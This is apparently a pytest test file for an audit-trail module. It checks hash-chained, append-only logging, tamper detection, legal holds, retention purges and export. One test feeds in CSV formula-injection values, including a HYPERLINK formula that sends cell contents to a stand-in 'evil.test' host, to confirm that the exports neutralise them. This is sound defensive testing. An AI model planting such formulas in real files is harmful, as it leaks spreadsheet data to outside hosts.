"""The audit trail: chained, append-only on PostgreSQL, verifiable, exportable, purgeable under holds."""

from __future__ import annotations

import csv
import io
import json
import threading
from datetime import timedelta

import pytest
from sqlalchemy import text, update
from sqlalchemy.exc import DBAPIError

from imagehub.core.errors import Conflict, InvalidInput, NotFound
from imagehub.models.audit import AuditEvent, AuditHead
from imagehub.services import audit, datasets
from imagehub.services.platform import Platform


def fill(platform: Platform, n: int, dataset: str = "lab/d") -> None:
    for i in range(n):
        with platform.sessions.begin() as session:
            audit.record(
                session,
                actor=f"user{i % 3}",
                action="object.download",
                dataset=dataset,
                ref="main",
                object=f"f{i}.dcm",
                ip="127.0.0.1",
                purpose="research",
                details={"i": i},
            )


def test_chain_verifies_and_exports(platform: Platform) -> None:
    fill(platform, 12)
    with platform.sessions() as session:
        assert audit.verify(session) is None
        rows = list(csv.DictReader(io.StringIO("".join(audit.export(session, "csv")))))
        lines = [json.loads(line) for line in audit.export(session, "json")]
        page = audit.search(session, actor="user1", limit=100)
    assert len(rows) == len(lines) == 12
    assert rows[0]["prev_hash"] == "0" * 64
    assert rows[5]["hash"] == lines[5]["hash"] == lines[6]["prev_hash"]
    assert json.loads(rows[3]["details"]) == {"i": 3}
    assert [r.object for r in page] == ["f1.dcm", "f4.dcm", "f7.dcm", "f10.dcm"]


def test_concurrent_appends_keep_one_chain(platform: Platform) -> None:
    threads = [threading.Thread(target=fill, args=(platform, 10)) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    with platform.sessions() as session:
        assert len(audit.search(session, limit=1000)) == 40
        assert audit.verify(session) is None


def test_tampering_is_refused_or_detected(platform: Platform) -> None:
    fill(platform, 6)
    if platform.engine.dialect.name == "postgresql":
        for statement in (
            "UPDATE audit_events SET actor = 'someone-else' WHERE id = 3",
            "DELETE FROM audit_events WHERE id = 3",
        ):
            with pytest.raises(DBAPIError, match="append-only"), platform.engine.begin() as conn:
                conn.execute(text(statement))
        return
    with platform.engine.begin() as conn:  # SQLite has no trigger: tampering must at least be found
        conn.execute(update(AuditEvent).where(AuditEvent.id == 3).values(actor="someone-else"))
    with platform.sessions() as session:
        problem = audit.verify(session)
    assert problem is not None
    assert problem.event_id == 3
    assert "altered" in problem.reason
    with platform.engine.begin() as conn:
        conn.execute(text("DELETE FROM audit_events WHERE id = 3"))
    with platform.sessions() as session:
        problem = audit.verify(session)
    assert problem is not None
    assert problem.event_id == 4
    assert "removed or reordered" in problem.reason


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)  # PostgreSQL refuses the edit itself
@pytest.mark.parametrize(
    ("column", "value"),
    [("details", "not json"), ("at", "garbage"), ("at", 12345)],
    ids=["details", "at-text", "at-number"],
)
def test_an_event_altered_past_reading_is_named_as_the_break(
    platform: Platform, column: str, value: object
) -> None:
    fill(platform, 6)
    with platform.engine.begin() as conn:
        conn.execute(text(f"UPDATE audit_events SET {column} = :value WHERE id = 4"), {"value": value})
    with platform.sessions() as session:
        problem = audit.verify(session)
        assert problem is not None
        assert (problem.event_id, problem.reason) == (4, "the event was altered: it can no longer be read")
        with pytest.raises(audit.DamagedEvent, match="audit event 4 was altered"):
            list(audit.export(session, "json"))
        with pytest.raises(audit.DamagedEvent, match="audit event 4 was altered"):
            audit.search(session, limit=100)
        assert len(audit.search(session, limit=3)) == 3  # the events before it still read


def test_a_purge_says_which_legal_hold_stopped_it(
    platform: Platform, monkeypatch: pytest.MonkeyPatch
) -> None:
    fill(platform, 2, dataset="lab/free")
    fill(platform, 2, dataset="lab/held")
    with platform.sessions.begin() as session:
        datasets.create(session, owner="lab", name="held", author="lab")
        with pytest.raises(InvalidInput, match="needs a reason"):
            audit.add_legal_hold(session, actor="counsel", reason="  ")
        hold = audit.add_legal_hold(session, actor="counsel", reason="litigation", dataset="lab/held")
    future = audit.utcnow() + timedelta(days=400)
    with platform.sessions.begin() as session:
        monkeypatch.setattr(audit, "utcnow", lambda: future)
        assert audit.purge(session, actor="ops", retention_days=30) == 2  # up to the held events
        monkeypatch.undo()
    with platform.sessions.begin() as session:
        [purged] = audit.search(session, action="audit.purge", limit=5)
        assert purged.details["stopped_at_hold"] == hold.id
        everything = audit.add_legal_hold(session, actor="counsel", reason="regulator's request")
    with platform.sessions.begin() as session, pytest.raises(Conflict, match=f"legal hold {everything.id}"):
        audit.purge(session, actor="ops", retention_days=30)


def test_retention_purge_respects_legal_holds(platform: Platform, monkeypatch: pytest.MonkeyPatch) -> None:
    fill(platform, 3, dataset="lab/held")
    fill(platform, 3, dataset="lab/free")
    with platform.sessions.begin() as session:
        assert audit.check(session).through == 6
        with pytest.raises(NotFound, match="no dataset"):
            audit.add_legal_hold(session, actor="counsel", reason="litigation", dataset="lab/nowhere")
        datasets.create(session, owner="lab", name="held", author="lab")
        hold = audit.add_legal_hold(session, actor="counsel", reason="litigation", dataset="lab/held")
    future = audit.utcnow() + timedelta(days=400)  # seen from then, every event so far is past 30 days
    with platform.sessions.begin() as session:
        monkeypatch.setattr(audit, "utcnow", lambda: future)
        assert audit.purge(session, actor="ops", retention_days=30) == 0  # the held events are the oldest
        monkeypatch.undo()
    with platform.sessions.begin() as session:
        audit.release_legal_hold(session, actor="counsel", hold_id=hold.id)
    with platform.sessions.begin() as session:
        monkeypatch.setattr(audit, "utcnow", lambda: future)
        deleted = audit.purge(session, actor="ops", retention_days=30)
        monkeypatch.undo()
    assert deleted == 8  # six downloads, the hold and its release
    with platform.sessions() as session:
        remaining = audit.search(session, limit=100)
        assert [e.action for e in remaining] == ["audit.purge"]
        assert remaining[0].details["deleted"] == 8
        assert audit.verify(session) is None  # the chain verifies from its new anchor
    with platform.sessions.begin() as session:
        state = audit.check(session)  # the checkpoint's event is gone: the whole chain is walked
    assert (state.problem, state.whole, state.through) == (None, True, remaining[0].id)


def test_oldest_events_cut_off_without_a_purge_are_found(platform: Platform) -> None:
    """Deleting the start of the trail and moving the anchor to match is not a retention
    purge: no purge event vouches for the new anchor, which is itself in the chain."""
    fill(platform, 5)
    with platform.sessions() as session:
        first = audit.search(session, limit=1)[0]
    with platform.engine.begin() as conn:
        if platform.engine.dialect.name == "postgresql":
            conn.execute(text("SET LOCAL imagehub.audit_purge = 'on'"))  # what the purge itself says
        conn.execute(text(f"DELETE FROM audit_events WHERE id = {first.id}"))
        conn.execute(update(AuditHead).where(AuditHead.id == 1).values(anchor=first.hash))
    with platform.sessions() as session:
        problem = audit.verify(session)
    assert problem is not None
    assert "no retention purge says so" in problem.reason


@pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)
def test_the_purge_switch_removes_only_the_oldest_events(platform: Platform) -> None:
    """The switch a purge sets needs no privilege: with it, the newest events still cannot
    be cut, nor the head reset to an empty chain."""
    fill(platform, 4)
    with platform.sessions() as session:
        events = audit.search(session, limit=10)
    for statement, refusal in (
        (f"DELETE FROM audit_events WHERE id = {events[-1].id}", "only the oldest"),
        (f"DELETE FROM audit_events WHERE id IN ({events[1].id}, {events[2].id})", "only the oldest"),
        ("UPDATE audit_head SET last_hash = repeat('0', 64), anchor = repeat('0', 64)", "cannot be reset"),
    ):
        with platform.engine.connect() as conn, conn.begin():
            conn.execute(text("SET LOCAL imagehub.audit_purge = 'on'"))
            with pytest.raises(DBAPIError, match=refusal):
                conn.execute(text(statement))
    with platform.engine.begin() as conn:  # what a purge does is still allowed
        conn.execute(text("SET LOCAL imagehub.audit_purge = 'on'"))
        conn.execute(text(f"DELETE FROM audit_events WHERE id <= {events[1].id}"))
    with platform.sessions() as session:
        assert [e.id for e in audit.search(session, limit=10)] == [e.id for e in events[2:]]


@pytest.mark.parametrize("days", [0, -1, 100_000])
def test_a_retention_period_outside_a_day_to_a_century_is_refused(platform: Platform, days: int) -> None:
    with platform.sessions.begin() as session:
        audit.record(session, actor="ops", action="test.event")
    with platform.sessions.begin() as session, pytest.raises(InvalidInput, match="retention period"):
        audit.purge(session, actor="ops", retention_days=days)
    with platform.sessions() as session:
        assert [e.action for e in audit.search(session)] == ["test.event"]


def test_csv_cells_never_start_a_formula_while_json_stays_exact(platform: Platform) -> None:
    typed = ['=HYPERLINK("http://evil.test/?"&A1,"Click")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    with platform.sessions.begin() as session:
        for name in typed:
            audit.record(session, actor=name, action="auth.login_failed", ip="127.0.0.1", purpose=name)
    with platform.sessions() as session:
        rows = list(csv.DictReader(io.StringIO("".join(audit.export(session, "csv")))))
        lines = [json.loads(line) for line in audit.export(session, "json")]
        assert audit.verify(session) is None
    assert [r["actor"] for r in rows] == ["'" + name for name in typed]
    assert [r["purpose"] for r in rows] == ["'" + name for name in typed]
    assert [line["actor"] for line in lines] == typed
    assert [r["hash"] for r in rows] == [line["hash"] for line in lines]


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)  # PostgreSQL refuses the edit itself
def test_an_earlier_break_is_named_before_a_later_event_altered_past_reading(platform: Platform) -> None:
    fill(platform, 6)
    with platform.engine.begin() as conn:
        conn.execute(text("UPDATE audit_events SET actor = 'mallory' WHERE id = 2"))
        conn.execute(text("UPDATE audit_events SET details = 'not json' WHERE id = 5"))
    with platform.sessions() as session:
        problem = audit.verify(session)
    assert problem is not None
    assert problem.event_id == 2
    assert "altered" in problem.reason


def test_newest_first_pages_by_keyset_both_ways_with_filters(platform: Platform) -> None:
    fill(platform, 7)
    with platform.sessions() as session:
        ids = [e.id for e in audit.search(session, limit=10)]
        first = audit.newest_first(session, limit=3)
        older = audit.newest_first(session, before=first.older or 0, limit=3)
        oldest = audit.newest_first(session, before=older.older or 0, limit=3)
        back = audit.newest_first(session, after=older.newer or 0, limit=3)
        mine = audit.newest_first(session, actor="user1", limit=2)
    assert [e.id for e in first.events] == ids[:-4:-1]
    assert (first.newer, first.older) == (None, ids[4])
    assert [e.id for e in older.events] == ids[3:0:-1]
    assert (older.newer, older.older) == (ids[3], ids[1])
    assert ([e.id for e in oldest.events], oldest.older, oldest.newer) == ([ids[0]], None, ids[0])
    assert back == first
    assert [e.object for e in mine.events] == ["f4.dcm", "f1.dcm"]
    assert mine.older is None


def test_a_check_walks_only_what_was_appended_since_its_checkpoint(platform: Platform) -> None:
    fill(platform, 5)
    with platform.sessions.begin() as session:
        first = audit.check(session)
    assert (first.problem, first.whole, first.checked) == (None, True, 5)  # nothing checked before
    fill(platform, 2)
    with platform.sessions.begin() as session:
        since = audit.check(session)
        newest = audit.search(session, newest_first=True, limit=1)[0]
    assert (since.problem, since.whole, since.checked, since.through) == (None, False, 2, newest.id)
    assert since.whole_at == first.whole_at is not None
    with platform.sessions.begin() as session:
        assert audit.check(session).checked == 0


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)  # PostgreSQL refuses the edit itself
@pytest.mark.parametrize("altered", [2, 5], ids=["before-checkpoint", "the-checkpoint"])
def test_an_event_altered_after_its_check_is_found_by_the_whole_walk_and_stays_found(
    platform: Platform, altered: int
) -> None:
    fill(platform, 5)
    with platform.sessions.begin() as session:
        assert audit.check(session).through == 5
    with platform.engine.begin() as conn:
        conn.execute(update(AuditEvent).where(AuditEvent.id == altered).values(actor="mallory"))
    fill(platform, 1)
    with platform.sessions.begin() as session:
        since = audit.check(session)  # only what was appended since, unless the checkpoint itself changed
        whole = audit.check(session, whole=True)
        assert audit.verify(session) == whole.problem
    assert (since.problem is None) == (altered < 5)
    assert whole.problem is not None
    assert (whole.problem.event_id, whole.whole) == (altered, True)
    fill(platform, 1)
    with platform.sessions.begin() as session:
        later = audit.check(session)
    assert later.problem == whole.problem  # a break stays shown until a whole walk finds it mended


@pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)
def test_a_hold_placed_while_a_purge_starts_is_seen_by_it(
    platform: Platform, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The purge takes the append lock before it reads the holds: a hold whose transaction
    holds that lock is committed, and seen, before the purge decides what to delete."""
    fill(platform, 3, dataset="lab/held")
    with platform.sessions.begin() as session:
        datasets.create(session, owner="lab", name="held", author="lab")
    future = audit.utcnow() + timedelta(days=400)
    purged: list[int] = []

    def purge() -> None:
        with platform.sessions.begin() as session:
            purged.append(audit.purge(session, actor="ops", retention_days=30))

    holding = platform.sessions()
    holding.begin()
    audit.add_legal_hold(holding, actor="counsel", reason="litigation", dataset="lab/held")  # takes the lock
    monkeypatch.setattr(audit, "utcnow", lambda: future)
    purger = threading.Thread(target=purge)
    purger.start()
    waiting = (
        "SELECT count(*) FROM pg_stat_activity"
        " WHERE wait_event_type = 'Lock' AND datname = current_database()"
    )
    with platform.engine.connect() as conn:
        for _ in range(500):
            if conn.execute(text(waiting)).scalar():
                break
            threading.Event().wait(0.02)
        else:
            pytest.fail("the purge never waited for the append lock")
    holding.commit()
    holding.close()
    purger.join(timeout=30)
    assert purged == [0]  # the held events are the oldest
